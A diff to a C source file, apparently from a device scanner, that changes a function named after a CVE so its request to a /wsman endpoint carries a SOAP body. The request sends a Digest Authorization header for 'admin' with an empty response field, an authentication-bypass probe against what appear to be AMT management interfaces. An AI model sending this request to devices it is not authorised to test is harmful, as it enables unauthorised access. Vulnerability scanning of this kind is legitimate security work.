@@ -3,6 +3,7 @@
  * /wsman asks for. Four requests on one connection where the device keeps it.
  */
 #include "device/ask.h"
+#include "device/soap.h"
 
 #include <stdlib.h>
 #include <string.h>
@@ -209,7 +210,15 @@ void dev_ask_cve_5689(struct dev_job *j)
 		"Authorization: Digest username=\"admin\", realm=\"%s\", nonce=\"\", "
 		"uri=\"/wsman\", response=\"\", qop=auth, nc=00000001, cnonce=\"\"\n",
 		realm);
-	struct amt_http_request req = {.url = url, .headers = header, .max_body = WEB_BODY};
+	struct amt_buf body;
+	amt_buf_init(&body, 4 * AMT_KIB);
+	dev_soap_get(&body, AMT_DEVC_general, 1);
+	struct amt_http_request req = {.url = url,
+				       .headers = header,
+				       .body = amt_buf_cstr(&body),
+				       .body_len = body.len,
+				       .max_body = WEB_BODY};
 	dev_http_prepare(j, port, &req);
 	amt_http_start(j->loop, NULL, &req, on_empty_response, j);
+	amt_buf_free(&body);
 }
